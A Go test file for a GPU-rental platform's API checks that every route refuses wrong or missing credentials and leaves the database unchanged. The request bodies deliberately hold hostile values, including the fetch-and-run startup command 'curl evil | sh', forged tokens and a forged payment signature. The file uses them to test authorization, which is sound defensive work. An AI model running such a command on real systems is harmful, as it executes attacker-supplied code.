package app

import (
	"context"
	"crypto/ed25519"
	"crypto/rand"
	"crypto/sha256"
	"database/sql"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"net/url"
	"path/filepath"
	"sort"
	"strings"
	"testing"
	"time"

	"golang.org/x/crypto/ssh"

	"github.com/gpurent/gpurent"
	"github.com/gpurent/gpurent/internal/agentproto"
	"github.com/gpurent/gpurent/internal/apiv1"
	"github.com/gpurent/gpurent/internal/wallet"
)

// The authorization matrix: every route the API serves and every page the
// console serves, taken from their route tables (api.Server.Routes,
// console.Server.Routes), is tried with the wrong credentials: none, a
// customer's on an operator's route, another customer's on customer A's
// resources, an agent's on a customer's route and a customer's on an
// agent's route. Each try must be refused (401, 403 or 404; the console's
// pages send the anonymous to /login) and must change nothing in the
// database: every table is fingerprinted before the tries and after each.
//
// A route served without an entry in apiMatrix or consoleMatrix fails the
// test, and so does an entry for a route no longer served: a new route
// says who may use it here.

// who says who may use a route.
type who string

const (
	// anyone, logged in or not, by design (the reason is in the entry).
	public who = "public"
	// any logged-in account, on its own account's data only (no
	// resource id in the path).
	self who = "self"
	// the owner of the resource named in the path (customer A's).
	owner who = "owner"
	// operators only.
	operatorOnly who = "operator"
	// a host's agent, by its agent token.
	agentOnly who = "agent"
)

// apiRule is a route's entry in the matrix. ids names what each path
// parameter is filled with (a key of matrixWorld.ids; the parameter's name
// when empty). body is sent with every try: a request that would change
// something if it were let through. why says why a public route is public.
type apiRule struct {
	who  who
	ids  map[string]string
	body string
	why  string
}

// instanceOfA fills {id} with customer A's instance.
var instanceOfA = map[string]string{"id": "instance"}

// apiMatrix is the expected access of every API route. Add an entry for a
// new route here (the key is "METHOD pattern" exactly as in routeTable).
var apiMatrix = map[string]apiRule{
	"GET /healthz":             {who: public, why: "liveness probe, no data"},
	"GET /readyz":              {who: public, why: "readiness probe, no data"},
	"GET /metrics":             {who: operatorOnly},
	"GET /api/v1/openapi.json": {who: public, why: "the API's description"},

	"POST /api/v1/auth/register": {who: public, why: "sign-up"},
	"POST /api/v1/auth/login":    {who: public, why: "sign-in"},
	"POST /api/v1/auth/logout":   {who: public, why: "revokes only the token presented"},
	"GET /api/v1/me":             {who: self},
	"POST /api/v1/tokens":        {who: self, body: `{"name":"stolen"}`},

	"GET /api/v1/gpu-types":        {who: public, why: "the market"},
	"GET /api/v1/zones":            {who: public, why: "the market's zones"},
	"PUT /api/v1/zones/{id}/probe": {who: operatorOnly, ids: map[string]string{"id": "zone"}, body: `{"probe_url":"http://127.0.0.1:9/probe"}`},
	"GET /api/v1/price":            {who: public, why: "price quotes"},
	"GET /api/v1/prices":           {who: public, why: "the published price list"},
	"POST /api/v1/prices":          {who: operatorOnly, body: `{"note":"free GPUs","price_list":{}}`},

	"GET /api/v1/statements/{month}": {who: self, ids: map[string]string{"month": "month"}},
	"GET /api/v1/revenue":            {who: operatorOnly},

	"POST /api/v1/academic/applications":              {who: self, body: `{"method":"proof","institution":"Evil U","proof":"trust me"}`},
	"GET /api/v1/academic/applications":               {who: self},
	"GET /api/v1/academic/applications/{id}":          {who: owner, ids: map[string]string{"id": "application"}},
	"POST /api/v1/academic/applications/{id}/approve": {who: operatorOnly, ids: map[string]string{"id": "application"}, body: `{"note":"self-approved"}`},
	"POST /api/v1/academic/applications/{id}/reject":  {who: operatorOnly, ids: map[string]string{"id": "application"}, body: `{"note":"rejected by a rival"}`},

	"GET /api/v1/wallet":                            {who: self},
	"GET /api/v1/wallet/limits":                     {who: self},
	"PUT /api/v1/wallet/limits":                     {who: self, body: `{"daily_fen":1,"monthly_fen":1,"stop_running":true}`},
	"GET /api/v1/wallet/events":                     {who: self},
	"PUT /api/v1/wallet/webhook":                    {who: self, body: `{"url":"https://hook.example/x"}`},
	"GET /api/v1/wallet/transactions":               {who: self},
	"POST /api/v1/vouchers/redeem":                  {who: self, body: `{"code":"NOSUCHCODE"}`},
	"POST /api/v1/vouchers":                         {who: operatorOnly, body: `{"amount_fen":100000000,"kind":"cash","expires_at":"2099-01-01T00:00:00Z","max_redemptions":100}`},
	"POST /api/v1/payments":                         {who: self, body: `{"provider":"bank-transfer","amount_fen":100}`},
	"POST /api/v1/payments/{provider}/callback":     {who: public, ids: map[string]string{"provider": "provider"}, why: "payment gateways, authenticated by their signature", body: `{"payment_id":"x","amount_fen":100000000}`},
	"POST /api/v1/payments/{provider}/{id}/settle":  {who: operatorOnly, ids: map[string]string{"provider": "provider", "id": "payment"}, body: `{"amount_fen":100000000}`},
	"POST /api/v1/accounts/{id}/credit":             {who: operatorOnly, ids: map[string]string{"id": "accountA"}, body: `{"amount_fen":100000000,"reason":"free money"}`},
	"POST /api/v1/instances":                        {who: self, body: `{"gpu_type":"rtx4090-24g","gpu_count":1,"image":"busybox"}`},
	"GET /api/v1/instances":                         {who: self},
	"GET /api/v1/instances/{id}":                    {who: owner, ids: instanceOfA},
	"POST /api/v1/instances/{id}/stop":              {who: owner, ids: instanceOfA},
	"POST /api/v1/instances/{id}/start":             {who: owner, ids: instanceOfA},
	"GET /api/v1/instances/{id}/upgrade/plan":       {who: owner, ids: instanceOfA},
	"POST /api/v1/instances/{id}/upgrade":           {who: owner, ids: instanceOfA, body: `{"gpu_count":2}`},
	"POST /api/v1/instances/{id}/migrate":           {who: owner, ids: instanceOfA, body: `{}`},
	"GET /api/v1/instances/{id}/operations":         {who: owner, ids: instanceOfA},
	"DELETE /api/v1/instances/{id}/queue":           {who: owner, ids: instanceOfA},
	"GET /api/v1/instances/{id}/plan":               {who: owner, ids: instanceOfA},
	"GET /api/v1/instances/{id}/access":             {who: owner, ids: instanceOfA},
	"POST /api/v1/instances/{id}/ports/{port}/link": {who: owner, ids: map[string]string{"id": "instance", "port": "port"}},
	"GET /api/v1/ssh-keys":                          {who: self},
	"GET /api/v1/images":                            {who: self},
	"PUT /api/v1/images/{name}":                     {who: operatorOnly, ids: map[string]string{"name": "image"}, body: `{"ref":"busybox:1.36","description":"replaced"}`},
	"DELETE /api/v1/images/{name}":                  {who: operatorOnly, ids: map[string]string{"name": "image"}},
	"PUT /api/v1/images/{name}/prepull":             {who: operatorOnly, ids: map[string]string{"name": "image"}, body: `{"prepull":true}`},
	"POST /api/v1/ssh-keys":                         {who: self, body: `{"public_key":"` + matrixSpareKey + `"}`},
	"DELETE /api/v1/ssh-keys/{id}":                  {who: owner, ids: map[string]string{"id": "sshkey"}},
	"GET /api/v1/access-sessions":                   {who: self},
	"POST /api/v1/instances/{id}/plan":              {who: owner, ids: instanceOfA, body: `{"plan":"daily"}`},
	"DELETE /api/v1/instances/{id}":                 {who: owner, ids: instanceOfA},
	"GET /api/v1/instances/{id}/incidents":          {who: owner, ids: instanceOfA},
	"GET /api/v1/incidents":                         {who: self},
	"PUT /api/v1/instances/{id}/failover":           {who: owner, ids: instanceOfA, body: `{"policy":"wait"}`},
	"PUT /api/v1/instances/{id}/startup":            {who: owner, ids: instanceOfA, body: `{"startup_command":"curl evil | sh"}`},
	"GET /api/v1/instances/{id}/logs":               {who: owner, ids: instanceOfA},
	"GET /api/v1/gpus/health":                       {who: operatorOnly},
	"POST /api/v1/gpus/{uuid}/cordon":               {who: operatorOnly, ids: map[string]string{"uuid": "gpu"}, body: `{"reason":"sabotage"}`},
	"POST /api/v1/gpus/{uuid}/repair":               {who: operatorOnly, ids: map[string]string{"uuid": "gpu"}, body: `{"note":"x"}`},
	"GET /api/v1/rma":                               {who: operatorOnly},
	"POST /api/v1/faults":                           {who: operatorOnly, body: `{"kind":"xid","xid":79}`},
	"GET /api/v1/sla":                               {who: public, why: "the published SLA terms"},
	"GET /sla":                                      {who: public, why: "the published SLA page"},
	"GET /transparency":                             {who: public, why: "the public compute transparency report"},
	"GET /api/v1/transparency":                      {who: public, why: "the public compute transparency report"},
	"GET /api/v1/transparency.csv":                  {who: public, why: "the public compute transparency report"},
	"POST /api/v1/instances/{id}/verify":            {who: owner, ids: instanceOfA, body: `{}`},
	"GET /api/v1/instances/{id}/verify":             {who: owner, ids: instanceOfA},
	"GET /api/v1/bench/jobs/{id}":                   {who: owner, ids: map[string]string{"id": "benchjob"}},
	"DELETE /api/v1/bench/jobs/{id}":                {who: owner, ids: map[string]string{"id": "benchjob"}},
	"GET /api/v1/bench/jobs":                        {who: operatorOnly},
	"POST /api/v1/bench/jobs":                       {who: operatorOnly, body: `{"hosts":["{host}"]}`},
	"GET /api/v1/bench/settings":                    {who: operatorOnly},
	"PUT /api/v1/bench/settings":                    {who: operatorOnly, body: `{}`},
	"GET /api/v1/gpus/certification":                {who: operatorOnly},
	"GET /api/v1/hosts":                             {who: operatorOnly},
	"POST /api/v1/hosts/{id}/reset":                 {who: operatorOnly, ids: map[string]string{"id": "host"}},
	"GET /api/v1/join-tokens":                       {who: operatorOnly},
	"POST /api/v1/join-tokens":                      {who: operatorOnly, body: `{"zone":"cd-tianfu-a","name":"evil-host"}`},
	"DELETE /api/v1/join-tokens/{id}":               {who: operatorOnly, ids: map[string]string{"id": "jointoken"}},
	"POST /api/v1/me/email/confirm":                 {who: self, body: `{"token":"gpverify_forged"}`},
	"POST /api/v1/hosts/{id}/cordon":                {who: operatorOnly, ids: map[string]string{"id": "host"}},
	"POST /api/v1/hosts/{id}/uncordon":              {who: operatorOnly, ids: map[string]string{"id": "host"}},
	"POST /api/v1/hosts/{id}/drain":                 {who: operatorOnly, ids: map[string]string{"id": "host"}},
	"POST /agent/v1/register":                       {who: public, why: "agents join with the join token (tried below with other credentials)"},
	"GET /agent/v1/desired":                         {who: agentOnly},
	"POST /agent/v1/report":                         {who: agentOnly, body: `{"report_id":"r-evil","at":"2026-01-01T00:00:00Z","runtime":"docker","gpus":[],"instances":[]}`},
	"POST " + agentproto.PathBench:                  {who: agentOnly, body: `{}`},
	"* /p/":                                         {who: owner, ids: map[string]string{"id": "instance"}},
	"* /":                                           {who: public, why: "the console: its pages have their own matrix (consoleMatrix)"},
}

// matrixSpareKey is an SSH key nobody added: a refused POST /ssh-keys
// must not add it.
const matrixSpareKey = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHyZfyPpOaTT7qQJ5lLkE1dJ6Q6BXY4QGnXo7GIIbpVb spare@matrix"

// matrixWorld is a control plane with customer A's resources, customer B,
// an operator and one host's agent.
type matrixWorld struct {
	t                *testing.T
	s                *Server
	db               *sql.DB
	a, b, ops, agent string // bearer tokens
	ids              map[string]string
	apiTokenA        string
}

func startMatrixWorld(t *testing.T) *matrixWorld {
	t.Helper()
	ctx := context.Background()
	dir := t.TempDir()
	dsn := filepath.Join(dir, "gpurent.db")
	// Background work runs rarely, so that nothing but the tried requests
	// could change the database.
	s, err := StartServer(ctx, ServerConfig{DSN: dsn, Listen: "127.0.0.1:0", BcryptCost: 4,
		PollWait: 50 * time.Millisecond, HostTimeout: time.Hour, HostDownAfter: time.Hour, BillingInterval: time.Minute,
		OperationsInterval: time.Hour, SSHListen: "127.0.0.1:0", KeyDir: filepath.Join(dir, "keys"),
		PaymentProviders: []wallet.PaymentProvider{wallet.NewBankTransferProvider("ICBC Chengdu, gpurent Ltd, 6222 1234")}})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { s.Close() })
	db, err := sql.Open("sqlite", dsn+"?_pragma=busy_timeout(10000)&_pragma=query_only(1)")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { db.Close() })
	w := &matrixWorld{t: t, s: s, db: db, ids: map[string]string{"zone": "cd-tianfu-a", "provider": "bank-transfer", "port": "8888",
		"month": time.Now().UTC().Format("2006-01")}}

	if _, err := s.Auth.CreateAccount(ctx, "ops@matrix.example", "Ops", "ops-password-12", gpurent.RoleOperator, 0); err != nil {
		t.Fatal(err)
	}
	w.ops = w.login("ops@matrix.example", "ops-password-12")
	w.a = w.signUp("a@matrix.example")
	w.b = w.signUp("b@matrix.example")
	var me apiv1.Account
	w.okJSON("GET", "/api/v1/me", w.a, "", &me)
	w.ids["accountA"] = me.ID
	for _, tok := range []string{w.a, w.b} {
		var acc apiv1.Account
		w.okJSON("GET", "/api/v1/me", tok, "", &acc)
		w.okJSON("POST", "/api/v1/accounts/"+acc.ID+"/credit", w.ops, `{"amount_fen":100000000,"reason":"matrix"}`, nil)
	}

	gpus := make([]agentproto.GPUInfo, 4)
	for i := range gpus {
		gpus[i] = agentproto.GPUInfo{UUID: fmt.Sprintf("GPU-matrix-%02d", i), Index: i, Type: "rtx4090-24g",
			Name: "NVIDIA GeForce RTX 4090", MemoryMiB: 24564, TopoGroup: "pcie0", Health: "healthy"}
	}
	joinTok, err := s.MintJoinToken(ctx, "cd-tianfu-a", "matrix-host")
	if err != nil {
		t.Fatal(err)
	}
	reg, _ := json.Marshal(agentproto.RegisterRequest{JoinToken: joinTok, Name: "matrix-host", Zone: "cd-tianfu-a",
		CPUMilli: 64000, MemoryMiB: 256 * 1024, DiskGiB: 2000, Runtime: "docker", AgentVersion: "v-test", GPUs: gpus})
	var rr agentproto.RegisterResponse
	w.okJSON("POST", agentproto.PathRegister, "", string(reg), &rr)
	w.agent, w.ids["host"], w.ids["gpu"] = rr.AgentToken, rr.HostID, gpus[3].UUID
	if _, jt, err := s.Fleet.MintJoinToken(ctx, "cd-tianfu-a", "spare-host", time.Hour, ""); err != nil {
		t.Fatal(err)
	} else {
		w.ids["jointoken"] = jt.ID
	}

	var in apiv1.Instance
	w.okJSON("POST", "/api/v1/instances", w.a, `{"name":"a-train","gpu_type":"rtx4090-24g","gpu_count":1,"image":"busybox"}`, &in)
	w.ids["instance"] = in.ID
	pub, _, err := ed25519.GenerateKey(rand.Reader)
	if err != nil {
		t.Fatal(err)
	}
	sp, err := ssh.NewPublicKey(pub)
	if err != nil {
		t.Fatal(err)
	}
	keyBody, _ := json.Marshal(apiv1.AddSSHKeyRequest{PublicKey: strings.TrimSpace(string(ssh.MarshalAuthorizedKey(sp))), Name: "a-laptop"})
	var key apiv1.SSHKey
	w.okJSON("POST", "/api/v1/ssh-keys", w.a, string(keyBody), &key)
	w.ids["sshkey"] = key.ID
	var app apiv1.AcademicApplication
	w.okJSON("POST", "/api/v1/academic/applications", w.a, `{"method":"proof","institution":"Sichuan University","proof":"student card"}`, &app)
	w.ids["application"] = app.ID
	var pay apiv1.Payment
	w.okJSON("POST", "/api/v1/payments", w.a, `{"provider":"bank-transfer","amount_fen":50000}`, &pay)
	w.ids["payment"] = pay.PaymentID
	var tok apiv1.Token
	w.okJSON("POST", "/api/v1/tokens", w.a, `{"name":"a-script"}`, &tok)
	w.apiTokenA = tok.ID
	var run apiv1.BenchRunResponse
	w.okJSON("POST", "/api/v1/bench/jobs", w.ops, `{"gpus":["`+gpus[3].UUID+`"]}`, &run)
	if len(run.Jobs) == 0 {
		t.Fatalf("the operator's benchmark run started no job: %+v", run)
	}
	w.ids["benchjob"] = run.Jobs[0].ID
	w.okJSON("PUT", "/api/v1/images/matrix:1", w.ops, `{"ref":"busybox:1"}`, nil)
	w.ids["image"] = "matrix:1"
	return w
}

// signUp registers a customer through the API and returns a session token.
func (w *matrixWorld) signUp(email string) string {
	w.t.Helper()
	body, _ := json.Marshal(apiv1.RegisterRequest{Email: email, Name: email[:1], Password: "customer-pw-12"})
	w.okJSON("POST", "/api/v1/auth/register", "", string(body), nil)
	return w.login(email, "customer-pw-12")
}

func (w *matrixWorld) login(email, password string) string {
	w.t.Helper()
	body, _ := json.Marshal(apiv1.LoginRequest{Email: email, Password: password})
	var lr apiv1.LoginResponse
	w.okJSON("POST", "/api/v1/auth/login", "", string(body), &lr)
	return lr.Token
}

// okJSON sends a request that must succeed and decodes its answer into v.
func (w *matrixWorld) okJSON(method, path, token, body string, v any) {
	w.t.Helper()
	code, raw := w.do(method, path, token, body, nil)
	if code/100 != 2 {
		w.t.Fatalf("%s %s: %d %s", method, path, code, raw)
	}
	if v != nil {
		if err := json.Unmarshal(raw, v); err != nil {
			w.t.Fatalf("%s %s: %v in %s", method, path, err, raw)
		}
	}
}

// do sends one request with a bearer token (none when ""), with extra
// headers, and returns the status and body. Redirects are not followed.
func (w *matrixWorld) do(method, path, token, body string, hdr http.Header) (int, []byte) {
	w.t.Helper()
	var rd io.Reader
	if body != "" {
		rd = strings.NewReader(body)
	}
	req, err := http.NewRequest(method, w.s.URL+path, rd)
	if err != nil {
		w.t.Fatal(err)
	}
	for k, v := range hdr {
		req.Header[k] = v
	}
	if body != "" && req.Header.Get("Content-Type") == "" {
		req.Header.Set("Content-Type", "application/json")
	}
	if token != "" {
		req.Header.Set("Authorization", "Bearer "+token)
	}
	c := &http.Client{Timeout: 30 * time.Second, CheckRedirect: func(*http.Request, []*http.Request) error { return http.ErrUseLastResponse }}
	resp, err := c.Do(req)
	if err != nil {
		w.t.Fatalf("%s %s: %v", method, path, err)
	}
	defer resp.Body.Close()
	raw, _ := io.ReadAll(io.LimitReader(resp.Body, 1<<20))
	if resp.StatusCode == http.StatusSeeOther || resp.StatusCode == http.StatusFound {
		raw = []byte("Location: " + resp.Header.Get("Location"))
	}
	return resp.StatusCode, raw
}

// fill puts the world's ids in a route's path parameters.
func (w *matrixWorld) fill(path string, ids map[string]string) string {
	w.t.Helper()
	for {
		i := strings.IndexByte(path, '{')
		if i < 0 {
			return path
		}
		j := strings.IndexByte(path[i:], '}')
		name := strings.TrimSuffix(path[i+1:i+j], "...")
		key := name
		if k, ok := ids[name]; ok {
			key = k
		}
		v, ok := w.ids[key]
		if !ok {
			w.t.Fatalf("path %s: no value for {%s} (say in its matrix entry's ids what fills it)", path, name)
		}
		path = path[:i] + url.PathEscape(v) + path[i+j+1:]
	}
}

// fingerprint is every table's row count and a hash of its rows.
func (w *matrixWorld) fingerprint() map[string]string {
	w.t.Helper()
	rows, err := w.db.Query(`SELECT name FROM sqlite_master WHERE type = 'table' ORDER BY name`)
	if err != nil {
		w.t.Fatal(err)
	}
	var tables []string
	for rows.Next() {
		var n string
		if err := rows.Scan(&n); err != nil {
			w.t.Fatal(err)
		}
		tables = append(tables, n)
	}
	if err := rows.Close(); err != nil {
		w.t.Fatal(err)
	}
	out := make(map[string]string, len(tables))
	for _, tb := range tables {
		rs, err := w.db.Query(`SELECT * FROM "` + tb + `"`)
		if err != nil {
			w.t.Fatal(err)
		}
		cols, _ := rs.Columns()
		var lines []string
		for rs.Next() {
			vals := make([]any, len(cols))
			ptrs := make([]any, len(cols))
			for i := range vals {
				ptrs[i] = &vals[i]
			}
			if err := rs.Scan(ptrs...); err != nil {
				w.t.Fatal(err)
			}
			lines = append(lines, fmt.Sprintf("%q", vals))
		}
		if err := rs.Close(); err != nil {
			w.t.Fatal(err)
		}
		sort.Strings(lines)
		h := sha256.Sum256([]byte(strings.Join(lines, "\n")))
		out[tb] = fmt.Sprintf("%d rows %s", len(lines), hex.EncodeToString(h[:8]))
	}
	return out
}

// changed names the tables whose fingerprint differs.
func changed(before, after map[string]string) []string {
	var out []string
	for tb, v := range after {
		if before[tb] != v {
			out = append(out, fmt.Sprintf("%s (%s -> %s)", tb, before[tb], v))
		}
	}
	for tb := range before {
		if _, ok := after[tb]; !ok {
			out = append(out, tb+" (dropped)")
		}
	}
	sort.Strings(out)
	return out
}

// try is one refused request the matrix makes.
type try struct {
	as    string // who tries, in words
	token string
	want  []int // a 303 must send to the login page
}

// tryRefused sends the request and checks it is refused with one of the
// wanted statuses and changed nothing since base; it returns the new base.
func (w *matrixWorld) tryRefused(t *testing.T, base map[string]string, route, method, path, body string, hdr http.Header, tr try) map[string]string {
	t.Helper()
	code, raw := w.do(method, path, tr.token, body, hdr)
	ok := false
	for _, c := range tr.want {
		ok = ok || c == code
	}
	if ok && code == http.StatusSeeOther && !strings.HasPrefix(string(raw), "Location: /login?") {
		t.Errorf("%s, tried %s %s: sent to %s, want the login page", route, tr.as, method+" "+path, raw)
	}
	if !ok {
		if len(raw) > 300 {
			raw = raw[:300]
		}
		t.Errorf("%s, tried %s %s: status %d, want one of %v; body %s", route, tr.as, method+" "+path, code, tr.want, raw)
	}
	after := w.fingerprint()
	if d := changed(base, after); len(d) > 0 {
		t.Errorf("%s, tried %s %s (status %d): the database changed: %s", route, tr.as, method+" "+path, code, strings.Join(d, ", "))
	}
	return after
}

// checkTable fails for every served route without an entry and every entry
// for a route not served.
func checkTable[R any](t *testing.T, table string, served []string, entries map[string]R) {
	t.Helper()
	seen := map[string]bool{}
	for _, r := range served {
		seen[r] = true
		if _, ok := entries[r]; !ok {
			t.Errorf("route %q is served but has no entry in %s (internal/app/*_matrix_test.go): add one saying who may use it", r, table)
		}
	}
	for r := range entries {
		if !seen[r] {
			t.Errorf("%s has an entry for %q, which is not served: remove or rename it", table, r)
		}
	}
}

func TestAPIAuthorizationMatrix(t *testing.T) {
	w := startMatrixWorld(t)
	var served []string
	for _, r := range w.s.API.Routes() {
		served = append(served, r.Method+" "+r.Path)
	}
	checkTable(t, "apiMatrix", served, apiMatrix)
	if t.Failed() {
		t.FailNow()
	}
	w.ids["{host}"] = w.ids["host"]
	base := w.fingerprint()
	anon := try{as: "anonymously", want: []int{401}}
	asAgent := try{as: "with an agent's token", token: w.agent, want: []int{401}}
	for _, key := range served {
		rule := apiMatrix[key]
		method, pattern, _ := strings.Cut(key, " ")
		path := w.fill(pattern, rule.ids)
		body := strings.ReplaceAll(rule.body, "{host}", w.ids["host"])
		switch rule.who {
		case public:
			if rule.why == "" {
				t.Errorf("%s is public without a reason: say why in its entry", key)
			}
			continue
		case self:
			base = w.tryRefused(t, base, key, method, path, body, nil, anon)
			base = w.tryRefused(t, base, key, method, path, body, nil, asAgent)
		case owner:
			if method == "*" {
				// The port proxy: any method, a path below the port.
				path = pattern + w.ids["instance"] + "/" + w.ids["port"] + "/"
				base = w.tryRefused(t, base, key, "GET", path, "", nil, try{as: "anonymously", want: []int{401, 403, 404}})
				base = w.tryRefused(t, base, key, "POST", path, `{}`, nil, try{as: "as customer B", token: w.b, want: []int{401, 403, 404}})
				continue
			}
			base = w.tryRefused(t, base, key, method, path, body, nil, anon)
			base = w.tryRefused(t, base, key, method, path, body, nil, asAgent)
			base = w.tryRefused(t, base, key, method, path, body, nil, try{as: "as customer B on customer A's resource", token: w.b, want: []int{403, 404}})
		case operatorOnly:
			base = w.tryRefused(t, base, key, method, path, body, nil, anon)
			base = w.tryRefused(t, base, key, method, path, body, nil, asAgent)
			base = w.tryRefused(t, base, key, method, path, body, nil, try{as: "as customer A", token: w.a, want: []int{403}})
		case agentOnly:
			base = w.tryRefused(t, base, key, method, path, body, nil, anon)
			base = w.tryRefused(t, base, key, method, path, body, nil, try{as: "with customer A's token", token: w.a, want: []int{401}})
			base = w.tryRefused(t, base, key, method, path, body, nil, try{as: "with an operator's token", token: w.ops, want: []int{401}})
		default:
			t.Errorf("%s: unknown access %q", key, rule.who)
		}
	}

	// The public routes that take credentials of their own refuse others'.
	forged, _ := json.Marshal(agentproto.RegisterRequest{JoinToken: w.a, Name: "matrix-host", Zone: "cd-tianfu-a",
		CPUMilli: 1000, MemoryMiB: 1024, DiskGiB: 10, Runtime: "docker", AgentVersion: "v-evil"})
	base = w.tryRefused(t, base, "POST /agent/v1/register", "POST", agentproto.PathRegister, string(forged), nil,
		try{as: "with a customer's token for the join token", want: []int{401, 403}})
	forged, _ = json.Marshal(agentproto.RegisterRequest{JoinToken: w.agent, Name: "matrix-host", Zone: "cd-tianfu-a",
		CPUMilli: 1000, MemoryMiB: 1024, DiskGiB: 10, Runtime: "docker", AgentVersion: "v-evil"})
	base = w.tryRefused(t, base, "POST /agent/v1/register", "POST", agentproto.PathRegister, string(forged), nil,
		try{as: "with an agent's token for the join token", want: []int{401, 403}})
	cb := fmt.Sprintf(`{"payment_id":%q,"amount_fen":50000}`, w.ids["payment"])
	_ = w.tryRefused(t, base, "POST /api/v1/payments/{provider}/callback", "POST", "/api/v1/payments/bank-transfer/callback", cb,
		http.Header{"X-Signature": {"sha256=00"}}, try{as: "as a forged gateway", token: w.a, want: []int{401, 403}})
}
